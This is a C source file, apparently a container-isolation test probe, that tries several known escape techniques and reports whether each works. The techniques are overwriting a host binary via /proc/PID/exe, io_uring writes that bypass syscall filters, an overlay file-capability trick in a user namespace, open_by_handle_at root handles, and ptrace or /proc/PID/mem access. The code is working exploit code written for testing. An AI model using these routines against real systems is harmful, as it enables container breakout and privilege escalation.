/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Known ways out of containers, tried from inside. Exit status 0: it worked, 1: it
 * did not (the reason is printed), 2: the attempt itself could not be made.
 *
 *   escape exe PROGRAM [ARGUMENT…]  start it, hold its file by /proc/PID/exe, kill it,
 *                                   and open the file for writing
 *   escape uring FILE TEXT          write by io_uring, past the system calls
 *   escape overlay DIR              in a user namespace of our own: an overlay, a copy of
 *                                   this program in it, and all capabilities in its file
 *   escape caps                     is any capability in effect?
 *   escape handle FILE              read it as if from outside: by handles of the root
 *   escape trace PID                trace that process, or read its memory
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static int failed(const char *what) {
	(void)printf("%s: %s\n", what, strerror(errno));
	return 1;
}

static int exe(char **argv) {
	char path[64];
	int fd, out, status;
	pid_t pid = fork();

	/* Traced, it stops as soon as it is that program. */
	if (pid == 0) {
		(void)ptrace(PTRACE_TRACEME, 0, 0, 0);
		(void)execv(argv[0], argv);
		_exit(127);
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0 || !WIFSTOPPED(status))
		return failed("start") + 1;
	(void)snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	(void)kill(pid, SIGKILL);
	(void)waitpid(pid, NULL, 0);
	if (fd < 0)
		return failed("exe") + 1;
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	out = open(path, O_WRONLY);
	return out < 0 ? failed("open") : 0;
}

/* One operation through a ring: its result, or -errno. */
static int ring_do(const struct io_uring_sqe *what) {
	struct io_uring_params p = { 0 };
	int fd = (int)syscall(SYS_io_uring_setup, 1, &p), result;
	size_t sq_len, cq_len;
	unsigned char *sq, *cq;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqe;

	if (fd < 0)
		return -errno;
	sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	cq_len = p.cq_off.cqes + p.cq_entries * sizeof(*cqe);
	sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE, MAP_SHARED, fd,
		    IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		return -errno;
	sqes[0] = *what;
	((unsigned *)(void *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned *)(void *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	cqe = (struct io_uring_cqe *)(void *)(cq + p.cq_off.cqes);
	result = cqe->res;
	(void)close(fd);
	return result;
}

static int uring(char **argv) {
	struct io_uring_sqe op = {
		.opcode = IORING_OP_OPENAT,
		.fd = AT_FDCWD,
		.addr = (uintptr_t)argv[0],
		.open_flags = O_WRONLY | O_CREAT,
		.len = 0644,
	};
	int fd = ring_do(&op), n;

	errno = -fd;
	if (fd < 0)
		return failed("open by a ring");
	op = (struct io_uring_sqe){
		.opcode = IORING_OP_WRITE,
		.fd = fd,
		.addr = (uintptr_t)argv[1],
		.len = (unsigned)strlen(argv[1]),
	};
	n = ring_do(&op);
	errno = -n;
	return n < 0 ? failed("write by a ring") : 0;
}

static int put(const char *path, const char *text) {
	int fd = open(path, O_WRONLY);
	ssize_t n = fd < 0 ? -1 : write(fd, text, strlen(text));

	(void)close(fd);
	return n < 0 ? -1 : 0;
}

static int copy_self(const char *path) {
	int in = open("/proc/self/exe", O_RDONLY), out = open(path, O_WRONLY | O_CREAT, 0755);
	char block[65536];
	ssize_t n = -1;

	while (in >= 0 && out >= 0 && (n = read(in, block, sizeof(block))) > 0)
		if (write(out, block, (size_t)n) != n)
			n = -1;
	(void)close(in);
	return n < 0 || close(out) < 0 ? -1 : 0;
}

static int overlay(char **argv) {
	struct vfs_cap_data all = {
		.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
		.data = { { 0xffffffffu, 0 }, { 0xffffffffu, 0 } },
	};
	char map[64];
	uid_t uid = getuid();
	gid_t gid = getgid();

	if (chdir(argv[0]) < 0 || mkdir("l", 0755) < 0 || mkdir("u", 0755) < 0 ||
	    mkdir("w", 0755) < 0 || mkdir("m", 0755) < 0 || copy_self("l/x") < 0)
		return failed("prepare") + 1;
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return failed("unshare") + 1;
	(void)snprintf(map, sizeof(map), "0 %u 1", uid);
	if (put("/proc/self/setgroups", "deny") < 0 || put("/proc/self/uid_map", map) < 0)
		return failed("uid_map") + 1;
	(void)snprintf(map, sizeof(map), "0 %u 1", gid);
	if (put("/proc/self/gid_map", map) < 0)
		return failed("gid_map") + 1;
	if (mount("overlay", "m", "overlay", 0, "lowerdir=l,upperdir=u,workdir=w") < 0)
		return failed("mount");
	/* As the file of another owner would be, which the kernels of 2021 took for checked. */
	if (setxattr("m/x", "security.capability", &all, XATTR_CAPS_SZ_2, 0) < 0)
		return failed("setxattr");
	return 0;
}

static int caps(char **argv) {
	char text[8192] = "";
	const char *at;
	int fd = open("/proc/self/status", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	(void)argv;
	(void)close(fd);
	at = n > 0 ? strstr(text, "CapEff:\t") : NULL;
	if (!at)
		return 2;
	(void)printf("%.16s\n", at + 8);
	return strtoull(at + 8, NULL, 16) == 0;
}

struct handle {
	struct file_handle head;
	unsigned char data[128];
};

/* The root directory of a file system usually has a number that can be guessed. */
static int handle(char **argv) {
	struct handle h = { .head = { .handle_bytes = sizeof(h.data) } };
	int mount_id, root = open("/", O_RDONLY | O_DIRECTORY), at, fd;

	if (root < 0)
		return failed("open") + 1;
	if (name_to_handle_at(root, "", &h.head, &mount_id, AT_EMPTY_PATH) < 0) {
		/* An overlay has none: that of ext4's root, by its number. */
		const uint32_t number[2] = { 2, 0 };

		h.head.handle_bytes = sizeof(number);
		h.head.handle_type = 1;
		memcpy(h.head.f_handle, number, sizeof(number));
	}
	at = open_by_handle_at(root, &h.head, O_RDONLY);
	if (at < 0)
		return failed("open_by_handle_at");
	fd = openat(at, argv[0] + 1, O_RDONLY);
	return fd < 0 ? failed(argv[0]) : 0;
}

static int trace(char **argv) {
	pid_t pid = (pid_t)strtol(argv[0], NULL, 10);
	char path[64];
	int fd;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
		return 0;
	(void)failed("ptrace");
	(void)snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDWR);
	if (fd >= 0)
		return 0;
	(void)failed(path);
	(void)snprintf(path, sizeof(path), "/proc/%d/root/etc", (int)pid);
	fd = open(path, O_RDONLY);
	if (fd >= 0)
		return 0;
	(void)failed(path);
	return kill(pid, SIGKILL) == 0 ? 0 : failed("kill");
}

int main(int argc, char **argv) {
	static const struct {
		const char *name;
		int (*act)(char **argv);
		int words;
	} all[] = {
		{ "exe", exe, 1 },	 { "uring", uring, 2 },	  { "overlay", overlay, 1 },
		{ "caps", caps, 0 },	 { "handle", handle, 1 }, { "trace", trace, 1 },
	};

	for (size_t i = 0; argc > 1 && i < sizeof(all) / sizeof(*all); i++)
		if (!strcmp(argv[1], all[i].name) && argc - 2 >= all[i].words)
			return all[i].act(argv + 2);
	return 2;
}
